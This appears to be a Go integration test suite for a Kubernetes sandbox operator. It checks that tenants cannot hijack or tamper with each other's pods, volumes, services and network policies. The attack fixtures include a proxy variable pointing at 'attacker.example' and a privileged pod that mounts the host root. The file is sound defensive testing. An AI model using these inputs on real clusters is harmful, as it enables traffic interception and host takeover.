//go:build integration

package claims_test

import (
	"context"
	"encoding/json"
	"testing"

	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/labels"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	extv1beta1 "github.com/sandgate-dev/sandgate/api/extensions/v1beta1"
	agentsv1beta1 "github.com/sandgate-dev/sandgate/api/v1beta1"
	"github.com/sandgate-dev/sandgate/internal/testing/builders"
	"github.com/sandgate-dev/sandgate/test/framework"
)

// The attacks of issue 20 against the running operator: what a claim gets is a pod, its
// volumes, its Service and its network policy, and a tenant of the same namespace must reach
// none of them. Each attacker acts through the API server as their own identity.

// mergePatch sends a JSON merge patch as c, as `kubectl patch --type=merge` does.
func mergePatch(ctx context.Context, c client.Client, obj client.Object, patch map[string]any) error {
	body, err := json.Marshal(patch)
	if err != nil {
		return err
	}
	return c.Patch(ctx, obj, client.RawPatch(types.MergePatchType, body))
}

// podOf returns the pod a claim's Sandbox runs (by its pod-name annotation).
func (e *env) podOf(g Gomega, sb *agentsv1beta1.Sandbox) *corev1.Pod {
	pod := &corev1.Pod{}
	g.Expect(e.Client.Get(e.ctx(), e.key(sb.Annotations[agentsv1beta1.AnnotationPodName]), pod)).To(Succeed())
	g.Expect(metav1.IsControlledBy(pod, sb)).To(BeTrue(), "pod %s is not controlled by Sandbox %s", pod.Name, sb.Name)
	return pod
}

// grantPods lets user create pods in the namespace, as a platform may grant a tenant.
func (e *env) grantPods(user string) {
	e.t.Helper()
	cluster.AllowPods(e.t, e.Client, e.ns, user)
}

// Class 1: a tenant creates a Sandbox named like a victim's future claim (with the template's
// volume), waits for its pod and PVC, deletes the Sandbox with --cascade=orphan, and leaves
// them behind. The victim's cold start runs neither: it builds its own pod and PVC under
// generated names and says so in ChildNameTaken events.
func TestAttackOrphanedChildrenAreNotAdopted(t *testing.T) {
	e := setup(t, 0)
	e.create(builders.MakeTemplate("tmpl", e.ns).VolumeClaimTemplate("workspace", "1Gi").Obj())
	e.create(builders.MakePool("pool", e.ns, "tmpl").Replicas(0).Obj())
	mallory := cluster.Tenant(t, e.Client, e.ns, "mallory")
	e.grantPods("mallory")
	alice := cluster.UserWithRole(t, e.Client, e.ns, "alice", framework.TenantRole)

	bait := builders.MakeSandbox("victim", e.ns).Image(evilImage).VolumeClaimTemplate("workspace", "1Gi").Obj()
	e.g.Expect(mallory.Create(e.ctx(), bait)).To(Succeed())
	var orphanPod corev1.Pod
	e.eventually(func(g Gomega) {
		g.Expect(e.Client.Get(e.ctx(), e.key("victim"), &orphanPod)).To(Succeed())
		g.Expect(e.Client.Get(e.ctx(), e.key("workspace-victim"), &corev1.PersistentVolumeClaim{})).To(Succeed())
	})
	e.g.Expect(mallory.Delete(e.ctx(), bait, client.PropagationPolicy(metav1.DeletePropagationOrphan))).To(Succeed())
	e.eventually(func(g Gomega) {
		g.Expect(apierrors.IsNotFound(e.Client.Get(e.ctx(), e.key("victim"), &agentsv1beta1.Sandbox{}))).To(BeTrue())
		g.Expect(e.Client.Get(e.ctx(), e.key("victim"), &orphanPod)).To(Succeed())
		g.Expect(orphanPod.OwnerReferences).To(BeEmpty(), "the garbage collector orphans the pod")
	})

	e.g.Expect(alice.Create(e.ctx(), builders.MakeClaim("victim", e.ns, "pool").Obj())).To(Succeed())
	_, sb := e.waitClaimReady("victim")
	pod := e.podOf(e.g, sb)
	e.g.Expect(pod.Name).NotTo(Equal(orphanPod.Name), "the victim runs the attacker's orphaned pod")
	e.g.Expect(pod.Spec.Containers[0].Image).To(Equal(builders.DefaultImage))
	for _, v := range pod.Spec.Volumes {
		if v.PersistentVolumeClaim != nil {
			e.g.Expect(v.PersistentVolumeClaim.ClaimName).NotTo(Equal("workspace-victim"), "the victim mounts the attacker's PVC")
		}
	}
	e.g.Expect(e.Client.Get(e.ctx(), e.key("victim"), &orphanPod)).To(Succeed())
	e.g.Expect(metav1.GetControllerOf(&orphanPod)).To(BeNil(), "the orphaned pod was adopted")
	e.g.Expect(e.events(e.g, "Sandbox", "victim")).To(ContainElement(ContainSubstring("ChildNameTaken")))
}

// Class 1, the label variant: a template's volume claim template may not carry the public
// adoptable label (or any reserved key), so no PVC it builds invites adoption.
func TestAttackAdoptableLabelInVolumeClaimTemplateRefused(t *testing.T) {
	e := setup(t, 0)
	mallory := cluster.Tenant(t, e.Client, e.ns, "mallory")
	tmpl := builders.MakeTemplate("tmpl", e.ns).VolumeClaimTemplate("workspace", "1Gi").Obj()
	tmpl.Spec.VolumeClaimTemplates[0].Labels = map[string]string{agentsv1beta1.LabelAdoptable: "true"}
	err := mallory.Create(e.ctx(), tmpl)
	e.g.Expect(apierrors.IsInvalid(err)).To(BeTrue(), "got %v, want 422", err)
	e.g.Expect(err).To(MatchError(ContainSubstring("spec.volumeClaimTemplates[0].metadata.labels[agents.x-k8s.io/adoptable]")))
}

// Class 2: what decides isolation is the operator's. A tenant cannot strip a warm member of
// the labels its pod is selected by, cannot turn members cold by labelling them, and cannot
// forge what v1alpha1 clients read; the claim's pod is selected by its template's
// NetworkPolicy.
func TestAttackIsolationMetadataIsTheOperators(t *testing.T) {
	e := setup(t, 0)
	e.create(builders.MakeTemplate("tmpl", e.ns).Obj())
	e.create(builders.MakePool("pool", e.ns, "tmpl").Replicas(2).Obj())
	mallory := cluster.Tenant(t, e.Client, e.ns, "mallory")
	members := e.waitPoolReady("pool", 2)

	for _, patch := range []map[string]any{
		{"metadata": map[string]any{"labels": map[string]any{agentsv1beta1.LabelSandboxTemplateRefHash: nil}}},
		{"metadata": map[string]any{"labels": map[string]any{agentsv1beta1.LabelLaunchType: agentsv1beta1.LaunchTypeCold}}},
		{"metadata": map[string]any{"labels": map[string]any{agentsv1beta1.LabelTemplateUID: "forged"}}},
		{"metadata": map[string]any{"annotations": map[string]any{"conversion.sandgate.dev/v1alpha1-fields": `{"forged":true}`}}},
	} {
		err := mergePatch(e.ctx(), mallory, &members[0], patch)
		e.g.Expect(apierrors.IsForbidden(err)).To(BeTrue(), "patch %v: got %v, want 403", patch, err)
	}

	alice := cluster.UserWithRole(t, e.Client, e.ns, "alice", framework.TenantRole)
	e.g.Expect(alice.Create(e.ctx(), builders.MakeClaim("c", e.ns, "pool").Obj())).To(Succeed())
	_, sb := e.waitClaimReady("c")
	pod := e.podOf(e.g, sb)
	np := &networkingv1.NetworkPolicy{}
	e.g.Expect(e.Client.Get(e.ctx(), e.key("tmpl-network-policy"), np)).To(Succeed())
	selector, err := metav1.LabelSelectorAsSelector(&np.Spec.PodSelector)
	e.g.Expect(err).NotTo(HaveOccurred())
	e.g.Expect(selector.Matches(labels.Set(pod.Labels))).To(BeTrue(), "no NetworkPolicy of the template selects the claim's pod %v", pod.Labels)
}

// Class 3: no traffic or isolation decision on a 32-bit hash. A tenant names a claim so that
// its name hash equals the victim's, and a template so that its name hash equals the victim's
// template's: the victim's Service does not select the attacker's pod, and the attacker's
// allow-all NetworkPolicy selects none of the victim's pods. status.selector stays the public
// value, the name hash alone, which the twin's pod also carries: it is published for clients
// and nothing is decided on it (docs/threat-model.md).
func TestAttackNameHashCollisionsSelectNothing(t *testing.T) {
	e := setup(t, 0)
	e.create(builders.MakeTemplate("tmpl", e.ns).Service(true).Obj())
	e.create(builders.MakePool("pool", e.ns, "tmpl").Replicas(0).Obj())
	alice := cluster.UserWithRole(t, e.Client, e.ns, "alice", framework.TenantRole)
	mallory := cluster.Tenant(t, e.Client, e.ns, "mallory")

	e.g.Expect(alice.Create(e.ctx(), builders.MakeClaim("victim", e.ns, "pool").Obj())).To(Succeed())
	_, victim := e.waitClaimReady("victim")
	victimPod := e.podOf(e.g, victim)

	twin := builders.CollidingName("victim")
	e.g.Expect(agentsv1beta1.NameHash(twin)).To(Equal(agentsv1beta1.NameHash("victim")))
	e.g.Expect(mallory.Create(e.ctx(), builders.MakeClaim(twin, e.ns, "pool").Obj())).To(Succeed())
	_, attacker := e.waitClaimReady(twin)
	attackerPod := e.podOf(e.g, attacker)

	svc := &corev1.Service{}
	e.g.Expect(e.Client.Get(e.ctx(), e.key(victim.Status.Service), svc)).To(Succeed())
	e.g.Expect(labels.SelectorFromSet(svc.Spec.Selector).Matches(labels.Set(attackerPod.Labels))).To(BeFalse(),
		"the victim's Service %v selects the attacker's pod %v", svc.Spec.Selector, attackerPod.Labels)
	e.g.Expect(labels.SelectorFromSet(svc.Spec.Selector).Matches(labels.Set(victimPod.Labels))).To(BeTrue())
	e.g.Expect(victim.Status.Selector).To(Equal(agentsv1beta1.LabelSandboxNameHash + "=" + agentsv1beta1.NameHash("victim")))

	allowAll := &extv1beta1.NetworkPolicySpec{Ingress: []networkingv1.NetworkPolicyIngressRule{{}}, Egress: []networkingv1.NetworkPolicyEgressRule{{}}}
	evilTemplate := builders.MakeTemplate(builders.CollidingName("tmpl"), e.ns).NetworkPolicy(allowAll).Obj()
	e.g.Expect(mallory.Create(e.ctx(), evilTemplate)).To(Succeed())
	np := &networkingv1.NetworkPolicy{}
	e.eventually(func(g Gomega) {
		g.Expect(e.Client.Get(e.ctx(), e.key(evilTemplate.Name+"-network-policy"), np)).To(Succeed())
	})
	selector, err := metav1.LabelSelectorAsSelector(&np.Spec.PodSelector)
	e.g.Expect(err).NotTo(HaveOccurred())
	e.g.Expect(selector.Matches(labels.Set(victimPod.Labels))).To(BeFalse(), "the attacker's allow-all policy selects the victim's pod")
}

// Class 4: tenants of one namespace are not equal. With the shipped editor role, bob cannot
// suspend, re-image or delete alice's Sandbox, rewrite her claim, delete it, or create a claim
// in her name; alice can delete her own.
func TestAttackAnotherTenantsClaimIsOutOfReach(t *testing.T) {
	e := setup(t, 0)
	e.create(builders.MakeTemplate("tmpl", e.ns).EnvVarsInjectionPolicy(extv1beta1.EnvVarsInjectionAllowed).Obj())
	e.create(builders.MakePool("pool", e.ns, "tmpl").Replicas(1).Obj())
	alice := cluster.UserWithRole(t, e.Client, e.ns, "alice", framework.TenantRole)
	bob := cluster.Tenant(t, e.Client, e.ns, "bob")
	e.waitPoolReady("pool", 1)

	e.g.Expect(alice.Create(e.ctx(), builders.MakeClaim("alices", e.ns, "pool").Obj())).To(Succeed())
	claim, sb := e.waitClaimReady("alices")
	e.g.Expect(claim.Annotations).To(HaveKeyWithValue(agentsv1beta1.AnnotationCreator, "alice"))

	forbidden := func(what string, err error) {
		e.t.Helper()
		e.g.Expect(apierrors.IsForbidden(err)).To(BeTrue(), "%s: got %v, want 403", what, err)
	}
	forbidden("suspend her Sandbox", mergePatch(e.ctx(), bob, sb, map[string]any{"spec": map[string]any{"operatingMode": "Suspended"}}))
	image := sb.DeepCopy()
	image.Spec.PodTemplate.Spec.Containers[0].Image = evilImage
	forbidden("re-image her Sandbox", bob.Patch(e.ctx(), image, client.MergeFrom(sb)))
	forbidden("delete her Sandbox", bob.Delete(e.ctx(), sb))
	forbidden("inject env into her claim", mergePatch(e.ctx(), bob, claim, map[string]any{"spec": map[string]any{
		"env": []map[string]any{{"name": "HTTPS_PROXY", "value": "http://attacker.example:3128"}}}}))
	forbidden("delete her claim", bob.Delete(e.ctx(), claim))

	inHerName := builders.MakeClaim("forged", e.ns, "pool").Annotation(agentsv1beta1.AnnotationCreator, "alice").Obj()
	err := bob.Create(e.ctx(), inHerName)
	e.g.Expect(apierrors.IsInvalid(err)).To(BeTrue(), "a claim in alice's name: got %v, want 422", err)

	e.consistently(framework.Quiet, func(g Gomega) {
		now, cur := e.claim(g, "alices"), &agentsv1beta1.Sandbox{}
		g.Expect(e.Client.Get(e.ctx(), client.ObjectKeyFromObject(sb), cur)).To(Succeed())
		g.Expect(ready(now.Status.Conditions)).To(BeTrue())
		g.Expect(cur.Spec.OperatingMode).To(Equal(agentsv1beta1.OperatingModeRunning))
		g.Expect(cur.Spec.PodTemplate.Spec.Containers[0].Image).To(Equal(builders.DefaultImage))
	})
	e.g.Expect(alice.Delete(e.ctx(), claim)).To(Succeed())
}

// Class 5: the operator is never a way around pod RBAC. A user who may not create pods
// cannot have the operator run a privileged pod with a hostPath volume by creating a Sandbox;
// and a tenant holding the tenant role cannot write the platform's templates or pools.
func TestAttackSandboxCreationNeedsPodRights(t *testing.T) {
	e := setup(t, 0)
	e.create(builders.MakeTemplate("tmpl", e.ns).Obj())
	mallory := cluster.Tenant(t, e.Client, e.ns, "mallory")
	sb := builders.MakeSandbox("root", e.ns).Obj()
	sb.Spec.PodTemplate.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: ptr.To(true)}
	sb.Spec.PodTemplate.Spec.Volumes = []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}
	err := mallory.Create(e.ctx(), sb)
	e.g.Expect(apierrors.IsForbidden(err)).To(BeTrue(), "got %v, want 403", err)
	e.g.Expect(err).To(MatchError(ContainSubstring("may not create pods")))

	alice := cluster.UserWithRole(t, e.Client, e.ns, "alice", framework.TenantRole)
	e.g.Expect(apierrors.IsForbidden(alice.Create(e.ctx(), builders.MakeTemplate("mine", e.ns).Image(evilImage).Obj()))).To(BeTrue())
	tmpl := e.template(e.g, "tmpl")
	evil := tmpl.DeepCopy()
	evil.Spec.PodTemplate.Spec.Containers[0].Image = evilImage
	e.g.Expect(apierrors.IsForbidden(alice.Patch(e.ctx(), evil, client.MergeFrom(tmpl)))).To(BeTrue())
	e.g.Expect(apierrors.IsForbidden(alice.Create(e.ctx(), builders.MakePool("mine", e.ns, "tmpl").Obj()))).To(BeTrue())
}
